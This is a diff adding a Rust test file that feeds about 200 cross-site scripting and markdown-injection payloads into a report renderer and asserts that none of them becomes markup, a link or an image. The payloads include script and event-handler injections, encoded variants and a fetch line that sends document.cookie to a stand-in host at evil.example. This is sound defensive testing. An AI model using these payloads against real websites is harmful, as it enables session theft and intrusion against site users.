@@ -1,0 +1,247 @@
+//! Text that wants to be markup, through every place of a report that takes text from elsewhere; what a
+//! parser that follows the browsers' standard then finds.
+
+use runner_engine::time::boot_time;
+use std::collections::BTreeSet;
+
+use pulldown_cmark::{Event, Options, Parser, Tag};
+use scraper::{Html, Selector};
+
+use super::render;
+use crate::report::{markdown, sample};
+
+/// Where a script may hide: `X` is what it would do.
+const SHAPES: [&str; 27] = [
+    "<script>X</script>",
+    "</script><script>X</script>",
+    "</style><script>X</script>",
+    "</title><script>X</script>",
+    "</textarea><script>X</script>",
+    "--><script>X</script><!--",
+    "]]><script>X</script>",
+    "\"><script>X</script>",
+    "'><script>X</script>",
+    "\" onmouseover=\"X",
+    "' onfocus='X' autofocus='",
+    "` onclick=X `",
+    "<img src=x onerror=X>",
+    "<img src=http://evil.example/X>",
+    "<svg onload=X>",
+    "</svg><svg/onload=X>",
+    "</desc></svg><img src=//evil.example onerror=X>",
+    "<iframe srcdoc=\"<script>X</script>\">",
+    "<a href=\"javascript:X\">x</a>",
+    "<form action=https://evil.example/X><input name=x autofocus onfocus=X>",
+    "<meta http-equiv=refresh content=\"0;url=http://evil.example/X\">",
+    "<link rel=stylesheet href=//evil.example/X.css>",
+    "<style>@import url(http://evil.example/X);</style>",
+    "<object data=\"data:text/html,<script>X</script>\">",
+    "<base href=\"http://evil.example/X\">",
+    "</summary></details><details open ontoggle=X>",
+    "<ScRiPt\n/src=//evil.example/X>",
+];
+
+/// What it would do, in encodings that somebody might undo.
+const DEEDS: [&str; 8] = [
+    "alert(1)",
+    "fetch('http://evil.example/'+document.cookie)",
+    "\\u0061lert(1)",
+    "&#97;lert(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\u{202e}\u{0}alert(1)\u{2028}",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+];
+
+/// What would be markup in markdown.
+const MARKDOWN: [&str; 21] = [
+    "![x](http://evil.example/x.png)",
+    "!\\[x\\](http://evil.example/x.png)",
+    "\\![x](http://evil.example)",
+    "[x](javascript:alert(1))",
+    "\\[x\\](javascript:alert(1))",
+    "\\\\[x\\\\](javascript:alert(1))",
+    "[x][y]\n\n[y]: http://evil.example",
+    "[y]: http://evil.example \"t\"",
+    "<http://evil.example>",
+    "<javascript:alert(1)>",
+    "```html\n<script>alert(1)</script>\n```",
+    "`` ` `` <img src=x onerror=alert(1)>",
+    "`\n\n<script>alert(1)</script>",
+    "| a | b |\n| - | - |\n| <b>x</b> | ![x](//evil.example) |",
+    "\n\n<div onclick=alert(1)>\n\n",
+    "[^1]: <script>alert(1)</script>",
+    "![x][http://evil.example]",
+    "[![x](//evil.example)](//evil.example)",
+    "\u{1b}]8;;http://evil.example\u{7}x\u{1b}]8;;\u{7}",
+    "<!-- --> <script>alert(1)</script>",
+    "\r\n# forged heading\r\n<b>",
+];
+
+fn payloads() -> Vec<String> {
+    let scripts = SHAPES
+        .iter()
+        .flat_map(|shape| DEEDS.iter().map(|deed| shape.replace('X', deed)));
+    let all: Vec<String> = scripts
+        .chain(MARKDOWN.iter().map(|it| (*it).to_owned()))
+        .collect();
+    assert!(all.len() >= 200, "{}", all.len());
+    assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
+    all
+}
+
+/// Elements that a page may have. What is not here came from elsewhere.
+const ELEMENTS: &[&str] = &[
+    "html",
+    "head",
+    "meta",
+    "title",
+    "style",
+    "body",
+    "main",
+    "header",
+    "section",
+    "footer",
+    "h1",
+    "h2",
+    "h3",
+    "p",
+    "a",
+    "b",
+    "span",
+    "small",
+    "time",
+    "code",
+    "ol",
+    "ul",
+    "li",
+    "dl",
+    "dt",
+    "dd",
+    "div",
+    "details",
+    "summary",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "figure",
+    "figcaption",
+    "svg",
+    "desc",
+    "rect",
+    "circle",
+    "path",
+    "polyline",
+    "line",
+    "g",
+    "text",
+];
+/// Attributes that a page may have, but for links.
+const ATTRIBUTES: &[&str] = &[
+    "lang",
+    "charset",
+    "http-equiv",
+    "content",
+    "name",
+    "class",
+    "id",
+    "datetime",
+    "open",
+    "scope",
+    "role",
+    "aria-label",
+    "aria-labelledby",
+    "aria-hidden",
+    "viewBox",
+    "preserveAspectRatio",
+    "width",
+    "height",
+    "x",
+    "y",
+    "x1",
+    "x2",
+    "y1",
+    "y2",
+    "cx",
+    "cy",
+    "r",
+    "d",
+    "points",
+    "transform",
+    "text-anchor",
+];
+
+/// Holds a page to what it may be made of, and returns its shape.
+fn held(page: &str, told: &str) -> Vec<String> {
+    let html = Html::parse_document(page);
+    let mut shape = Vec::new();
+    for element in html.select(&Selector::parse("*").unwrap()) {
+        let name = element.value().name();
+        assert!(ELEMENTS.contains(&name), "<{name}> by {told}");
+        for (attribute, value) in element.value().attrs() {
+            match attribute {
+                "href" => assert!(value.starts_with('#'), "{name} leads to {value} by {told}"),
+                _ => assert!(ATTRIBUTES.contains(&attribute), "{attribute} by {told}"),
+            }
+        }
+        shape.push(name.to_owned());
+    }
+    assert_eq!(
+        html.select(&Selector::parse("meta[http-equiv]").unwrap())
+            .count(),
+        1,
+        "{told}"
+    );
+    shape
+}
+
+#[test]
+fn no_text_becomes_markup_in_a_page() {
+    let began = boot_time();
+    let usual = held(&render(&sample::full("usual")), "usual");
+    let payloads = payloads();
+    for payload in &payloads {
+        let report = sample::full(payload);
+        // The same elements in the same order: text changed nothing but text.
+        assert_eq!(held(&render(&report), payload), usual, "by {payload}");
+    }
+    println!(
+        "hostile text in pages: {} payloads in {:?}",
+        payloads.len(),
+        boot_time().saturating_sub(began)
+    );
+}
+
+#[test]
+fn what_was_written_is_shown_as_it_was_written() {
+    let page = render(&sample::full("<i>R&D</i> 'x' `y` \"z\""));
+    let html = Html::parse_document(&page);
+    let item = html
+        .select(&Selector::parse("#alerts li").unwrap())
+        .next()
+        .unwrap();
+    assert_eq!(item.text().collect::<String>(), "<i>R&D</i> 'x' `y` \"z\"");
+}
+
+#[test]
+fn no_text_becomes_markup_in_markdown() {
+    let payloads = payloads();
+    for payload in &payloads {
+        let text = markdown(&sample::full(payload));
+        for event in Parser::new_ext(&text, Options::all()) {
+            match event {
+                Event::Html(html) | Event::InlineHtml(html) => panic!("{html} by {payload}"),
+                Event::Start(Tag::Image { dest_url, .. } | Tag::Link { dest_url, .. }) => {
+                    panic!("leads to {dest_url} by {payload}")
+                }
+                Event::Start(Tag::CodeBlock(_) | Tag::HtmlBlock) => panic!("a block by {payload}"),
+                _ => {}
+            }
+        }
+        assert!(!text.contains('\u{1b}'), "{payload}");
+    }
+    println!("hostile text in markdown: {} payloads", payloads.len());
+}
